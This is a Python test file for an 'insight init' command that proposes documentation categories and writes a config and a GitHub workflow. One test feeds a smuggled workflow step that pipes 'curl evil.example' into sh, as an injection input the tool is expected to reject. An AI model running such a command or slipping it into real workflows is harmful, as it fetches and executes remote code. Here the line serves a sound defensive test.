"""``insight init``: categories from where the docs change, no secrets, no injected steps."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from docs_repo import DocsRepo

from insight.cli import cli
from insight.config import load_settings
from insight.models import Category


def test_init_proposes_categories_where_the_docs_changed(
    docs_repo: DocsRepo, tmp_path: Path
) -> None:
    for number in range(6):
        docs_repo.write(f"articles/search/page-{number}.md", f"# Search {number}\n")
        docs_repo.write(f"articles/speech/how-to/page-{number % 2}.md", f"# Speech {number}\n")
        docs_repo.write("README.md", f"# Readme {number}\n")
        docs_repo.commit(f"edit {number}")
    docs_repo.write("articles/vision/index.md", "# Vision\n")
    docs_repo.commit("vision")
    target = tmp_path / "watch"
    result = CliRunner().invoke(cli, ["init", str(target), "--repo", str(docs_repo.path)])
    assert result.exit_code == 0, result.output
    settings = load_settings(target / "insight.toml", environ={})
    assert settings.categories == (
        Category("search", ("articles/search",)),
        Category("speech", ("articles/speech",)),
        Category("vision", ("articles/vision",)),
    )


def test_init_without_a_readable_repository_keeps_the_examples(tmp_path: Path) -> None:
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", str(tmp_path / "none")])
    assert result.exit_code == 0, result.output
    assert "no categories proposed" in result.stderr
    assert load_settings(tmp_path / "insight.toml", environ={}).categories == ()
    assert "# [categories.openai]" in (tmp_path / "insight.toml").read_text()


def test_init_leaves_credentials_out_of_the_config(tmp_path: Path) -> None:
    url = "https://reader:p@ss-s3cret@127.0.0.1:9/owner/docs.git"
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", url])
    assert result.exit_code == 0, result.output
    for path in tmp_path.rglob("*"):
        if path.is_file():
            assert "s3cret" not in path.read_text()
    assert load_settings(tmp_path / "insight.toml", environ={}).repo == (
        "https://127.0.0.1:9/owner/docs.git"
    )
    assert "s3cret" not in result.output and "credentials in the repository URL" in result.stderr


def test_init_refuses_an_action_that_is_no_reference(tmp_path: Path) -> None:
    bad = "owner/repo@v1\n      - run: curl evil.example | sh"
    result = CliRunner().invoke(cli, ["init", str(tmp_path), "--repo", "x", "--action", bad])
    assert result.exit_code == 2 and "expected OWNER/REPO@REF" in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert not (tmp_path / "insight.toml").exists()
    good = CliRunner().invoke(
        cli, ["init", str(tmp_path), "--repo", "x", "--action", "me/insight/sub@main"]
    )
    assert good.exit_code == 0
    workflow = yaml.safe_load((tmp_path / ".github/workflows/insight.yml").read_text())
    assert workflow["jobs"]["report"]["steps"][1]["uses"] == "me/insight/sub@main"


def test_proposed_names_and_paths_always_load(docs_repo: DocsRepo, tmp_path: Path) -> None:
    for number, folder in enumerate(["we[ird", "sp ace\x1b]0;t\x07", "ok"]):
        docs_repo.write(f"{folder}/page.md", f"# Page {number}\n")
        docs_repo.commit(f"page {number}")
    target = tmp_path / "watch"
    result = CliRunner().invoke(cli, ["init", str(target), "--repo", str(docs_repo.path)])
    assert result.exit_code == 0, result.output
    settings = load_settings(target / "insight.toml", environ={})
    assert settings.categories == (
        Category("ok", ("ok",)),
        Category("sp-ace-0-t", ("sp ace\x1b]0;t\x07",)),
    )


def init_categories(docs_repo: DocsRepo, target: Path) -> tuple[list[Category], str]:
    result = CliRunner().invoke(
        cli, ["init", str(target), "--repo", str(docs_repo.path), "--engine", "heuristic"]
    )
    assert result.exit_code == 0, result.output
    settings = load_settings(target / "insight.toml", environ={})
    return list(settings.categories), result.stderr


def test_init_proposes_a_docfx_repositorys_content_roots_never_ci_or_tests(
    docs_repo: DocsRepo, tmp_path: Path
) -> None:
    docs_repo.write(
        ".openpublishing.publish.config.json",
        '{"docsets_to_publish": [{"build_source_folder": "reference"}],}',
    )
    docs_repo.write(
        "reference/docfx.json",
        '{"build": {"content": [{"files": ["index.yml"]},'
        '{"src": "docs-conceptual", "files": ["**/*.md"]}, {"src": "7.4", "files": ["**"]},'
        '{"src": "7.5", "files": ["**"]},]}}',
    )
    docs_repo.write("reference/index.yml", "title: Index\n")
    for number in range(8):
        docs_repo.write(f"reference/7.4/Module/Cmd-{number}.md", f"# Cmd {number}\n")
        docs_repo.write(f"reference/7.5/Module/Cmd-{number}.md", f"# Cmd {number}\n")
        docs_repo.write(f"reference/docs-conceptual/page-{number}.md", f"# Page {number}\n")
        docs_repo.write(f".github/workflows/build-{number}.yml", "on: push\n")
        docs_repo.write(f"tests/cases-{number}.md", "# Case\n")
        docs_repo.commit(f"edit {number}")
    categories, notice = init_categories(docs_repo, tmp_path / "watch")
    assert categories == [
        Category("docs-conceptual", ("reference/docs-conceptual",)),
        Category("7.4", ("reference/7.4",)),
        Category("7.5", ("reference/7.5",)),
        Category("reference", ("reference",)),
    ]
    assert (
        "insight: 4 categories proposed; they take 100% (25 of 25) of the documentation files "
        "changed in the last 100 commits\n"
    ) in notice


def test_init_proposes_one_category_per_language_tree_and_leaves_code_out(
    docs_repo: DocsRepo, tmp_path: Path, isolated: Path
) -> None:
    docs_repo.write("docs/en/mkdocs.yml", "site_name: X\nsite_url: https://x.example/\n")
    docs_repo.write("docs/de/mkdocs.yml", "INHERIT: ../en/mkdocs.yml\n")
    for number in range(4):
        for language in ("en", "de", "ja"):
            docs_repo.write(f"docs/{language}/docs/page-{number}.md", f"# {language} {number}\n")
        docs_repo.write(f"app/module_{number}.py", "x = 1\n")
        docs_repo.write(f"scripts/notes-{number}.md", "# Notes\n")
        docs_repo.write("README.md", f"# Readme {number}\n")
        docs_repo.commit(f"edit {number}")
    categories, notice = init_categories(docs_repo, isolated)
    assert categories == [
        Category("en", ("docs/en/docs",)),
        Category("de", ("docs/de/docs",)),
        Category("ja", ("docs/ja/docs",)),
    ]
    assert "they take 80% (12 of 15)" in notice
    assert "left out: README.md (1), docs/de (1), docs/en (1)" in notice
    # init, then run: every changed file is in a report (the rest in 'other')
    result = CliRunner().invoke(cli, ["run"])
    assert result.exit_code == 0, result.output
    reported = {
        item["path"]
        for path in result.stdout.split()
        if path.endswith(".json")
        for item in json.loads((isolated / path).read_text())["items"]
    }
    changed = docs_repo.repo.git.diff("--name-only", "HEAD~3", "HEAD").split()  # from the root
    assert len(changed) == 16 and reported == set(changed)


@pytest.mark.parametrize(
    ("config", "content", "expected"),
    [
        ("hugo.toml", 'baseURL = "https://x/"\ncontentDir = "pages"\n', "pages"),
        ("docusaurus.config.js", "module.exports = {url: 'https://x'}\n", "docs"),
        ("book.toml", '[book]\nsrc = "book"\n', "book"),
    ],
)
def test_init_reads_hugo_docusaurus_and_mdbook_content_roots(
    docs_repo: DocsRepo, tmp_path: Path, config: str, content: str, expected: str
) -> None:
    docs_repo.write(config, content)
    docs_repo.write(f"{expected}/guide/intro.md", "# Intro\n")
    docs_repo.write("notes/other.md", "# Other\n")
    docs_repo.commit("site")
    categories, _ = init_categories(docs_repo, tmp_path / "watch")
    assert Category(expected, (expected,)) in categories
    assert all(not category.paths[0].startswith("notes") for category in categories)
